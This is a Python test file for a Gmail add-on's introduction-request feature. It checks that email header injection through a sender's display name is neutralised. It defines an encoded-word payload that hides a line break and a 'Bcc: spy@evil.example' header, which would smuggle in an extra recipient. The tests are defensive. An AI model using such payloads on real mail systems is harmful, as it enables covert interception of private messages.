"""The Gmail add-on prefills the requester from the open message's From display name, so a stranger can
plant an encoded word there just by writing to the user. It arrives decoded and harmless, and whatever
is typed into the form is checked: the draft goes to exactly the people shown."""
from __future__ import annotations

from email import policy
from email.parser import BytesParser
from email.utils import getaddresses

from gmail_addon_fixtures import (ANN, BOB, DANA, FILLED, card_of, clock, form, inputs_of,  # noqa: F401
                                  live, plain_http_to_loopback, texts)

INJECTION = "=?utf-8?q?Ann_Lee=0D=0ABcc=3A_spy=40evil.example?="


def _recipients(raw: bytes) -> set[str]:
    em = BytesParser(policy=policy.compat32).parsebytes(raw)
    return {a.lower() for _, a in getaddresses([str(v) for name in ("To", "Cc", "Bcc")
                                               for v in em.get_all(name, [])])}


def _strangers_message(live):
    raw = (f"From: {INJECTION} <{ANN}>\r\nTo: Dana Park <{DANA}>\r\nSubject: Could you connect me to Bob?\r\n"
           f"Message-ID: <smuggle@acme.example>\r\n\r\nDana, could you introduce me to Bob Stone?\r\n").encode()
    return live.world.receive(DANA, raw)


def test_a_planted_display_name_is_prefilled_decoded_and_the_draft_goes_only_to_bob(live):
    live.connect()
    message = _strangers_message(live)
    opened = live.trigger("/addon/gmail/on-open", gmail=live.open_message(message.thread_id))
    values = inputs_of(card_of(opened))
    assert (values["requester_name"], values["requester_email"]) == ("Ann Lee Bcc: spy@evil.example", ANN)
    answer = live.click(opened, "Introduce", gmail=live.open_message(message.thread_id),
                        inputs=form(**{**FILLED, "requester_name": values["requester_name"]}))
    assert "Permission request drafted" in answer["renderActions"]["action"]["notification"]["text"]
    (draft,) = live.world.drafts(DANA)
    assert _recipients(draft.raw) == {BOB}
    head = draft.raw.split(b"\r\n\r\n")[0].split(b"\r\n")
    assert not [line for line in head if line.lower().startswith((b"bcc", b"cc:"))]


def test_an_encoded_word_typed_into_the_form_is_refused_naming_the_field(live):
    live.connect()
    message = _strangers_message(live)
    opened = live.trigger("/addon/gmail/on-open", gmail=live.open_message(message.thread_id))
    answer = live.click(opened, "Introduce", gmail=live.open_message(message.thread_id),
                        inputs=form(**{**FILLED, "requester_name": INJECTION}))
    assert "requester.name: hides a line break" in texts(card_of(answer)) or \
        "requester.name: hides a line break" in str(answer)
    assert live.world.drafts(DANA) == []
